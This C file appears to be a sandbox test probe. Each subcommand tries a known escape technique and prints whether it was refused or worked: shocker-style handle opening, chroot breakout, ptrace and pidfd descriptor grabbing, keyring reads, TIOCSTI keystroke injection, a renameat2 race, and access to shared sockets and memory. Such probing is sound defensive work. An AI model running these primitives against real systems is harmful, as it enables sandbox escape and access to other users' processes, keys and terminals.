/* What a stranger's program would do in a sandbox. Each attempt says what came of it in a line: its name, and what it
 * got, or why not. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <mqueue.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

static int say(const char *what, long result) {
    if (result < 0)
        printf("%s refused %s\n", what, strerrorname_np(errno));
    else
        printf("%s DONE\n", what);
    fflush(stdout);
    return 0;
}

static int show(const char *what, const char *path) {
    char text[256] = "";
    int fd = open(path, O_RDONLY);
    if (fd < 0 || read(fd, text, sizeof text - 1) < 0)
        return say(what, -1);
    printf("%s GOT %s\n", what, text);
    return 0;
}

/* A socket of the machine that lies on no file system, by its name. */
static int abstract(char **argument) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    size_t length = strlen(argument[0]);
    memcpy(address.sun_path + 1, argument[0], length);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    return say("abstract", connect(fd, (void *)&address, offsetof(struct sockaddr_un, sun_path) + 1 + length));
}

/* Memory that processes share by a number, and a queue that they share by a name. */
static int shared(char **argument) {
    int id = shmget((key_t)strtol(argument[0], NULL, 0), 0, 0);
    char *text = id < 0 ? NULL : shmat(id, NULL, SHM_RDONLY);
    if (text && text != (char *)-1)
        printf("memory GOT %s\n", text);
    else
        say("memory", -1);
    return say("queue", mq_open(argument[1], O_RDWR));
}

/* A file of the machine by its handle, through whatever lies on the same file system (as "shocker" did). */
static int handle(char **argument) {
    struct {
        struct file_handle head;
        unsigned char data[128];
    } file = {.head.handle_type = atoi(argument[0])};
    for (const char *digit = argument[1]; digit[0] && digit[1]; digit += 2)
        sscanf(digit, "%2hhx", &file.data[file.head.handle_bytes++]);
    const char *const places[] = {"/", "/etc/hosts", "/etc/resolv.conf", "/proc/self/exe", "/mnt", "/dev/null"};
    for (unsigned number = 0; number < sizeof places / sizeof *places; number++) {
        int place = open(places[number], O_RDONLY);
        if (place < 0)
            continue;
        int fd = open_by_handle_at(place, &file.head, O_RDONLY);
        char text[256] = "";
        if (fd >= 0 && read(fd, text, sizeof text - 1) >= 0)
            printf("handle GOT %s\n", text);
        else
            say("handle", -1);
    }
    return 0;
}

/* Out of a chroot by its working directory, as far up as it goes. */
static int up(char **argument) {
    mkdir("/tmp/up", 0700);
    if (chroot("/tmp/up") < 0)
        return say("up", -1);
    for (int number = 0; number < 64; number++)
        if (chdir("..") < 0)
            break;
    if (chroot(".") < 0)
        return say("up", -1);
    return show("up", argument[0]);
}

/* What was left open by who started this. */
static int descriptors(char **argument) {
    (void)argument;
    for (int fd = 3; fd < 65536; fd++)
        if (fcntl(fd, F_GETFD) >= 0)
            printf("descriptors GOT %d\n", fd);
    return say("descriptors", (errno = EBADF, -1));
}

/* A process of the machine by its number. */
static int process(char **argument) {
    pid_t pid = atoi(argument[0]);
    char byte;
    struct iovec own = {&byte, 1}, other = {(void *)0x400000, 1};
    say("trace", ptrace(PTRACE_SEIZE, pid, 0, 0));
    say("memory", process_vm_readv(pid, &own, 1, &other, 1, 0));
    int fd = (int)syscall(SYS_pidfd_open, pid, 0);
    say("pidfd", fd);
    say("descriptor", syscall(SYS_pidfd_getfd, fd, 0, 0));
    return say("kill", kill(pid, SIGKILL));
}

/* A key of the user's session, by its description and its number. */
static int key(char **argument) {
    char text[256] = "";
    say("request", syscall(SYS_request_key, "user", argument[0], NULL, 0));
    say("search", syscall(SYS_keyctl, 10, -3, "user", argument[0], 0));
    long length = syscall(SYS_keyctl, 11, atol(argument[1]), text, sizeof text - 1);
    if (length >= 0)
        return printf("read GOT %s\n", text);
    return say("read", -1);
}

/* Letters that the user has not typed. */
static int type(char **argument) {
    const char *const places[] = {"/dev/tty", "/dev/console", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/1/fd/0"};
    for (unsigned number = 0; number < sizeof places / sizeof *places; number++) {
        int fd = open(places[number], O_RDWR | O_NOCTTY);
        for (const char *letter = argument[0]; *letter; letter++)
            if (ioctl(fd, TIOCSTI, letter) < 0)
                break;
    }
    return say("type", 0);
}

/* Two names take turns without end: what is opened may be another thing at each look. */
static int flip(char **argument) {
    for (;;)
        if (renameat2(AT_FDCWD, argument[0], AT_FDCWD, argument[1], RENAME_EXCHANGE) < 0)
            return say("flip", -1);
}

/* What a program of another user or with capabilities of its own may do. */
static int rights(char **argument) {
    char line[256];
    FILE *file = fopen("/proc/self/status", "r");
    while (file && fgets(line, sizeof line, file))
        if (!strncmp(line, "Cap", 3))
            printf("%s", line);
    printf("user %d\n", geteuid());
    return show("rights", argument[0]);
}

/* In the place of the loader of programs: says which program it was to load. */
static int loader(void) {
    char link[256] = "";
    if (readlink("/proc/self/exe", link, sizeof link - 1) > 0)
        printf("loader GOT %s\n", link);
    return 0;
}

static const struct {
    const char *name;
    int (*attempt)(char **);
    int arguments;
} ATTEMPTS[] = {
    {"abstract", abstract, 1}, {"shared", shared, 2}, {"handle", handle, 2}, {"up", up, 1}, {"key", key, 2},
    {"descriptors", descriptors, 0}, {"process", process, 1}, {"type", type, 1}, {"flip", flip, 2},
    {"rights", rights, 1},
};

int main(int count, char **argument) {
    for (unsigned number = 0; count > 1 && number < sizeof ATTEMPTS / sizeof *ATTEMPTS; number++)
        if (!strcmp(argument[1], ATTEMPTS[number].name) && count == 2 + ATTEMPTS[number].arguments)
            return ATTEMPTS[number].attempt(argument + 2);
    return loader();
}
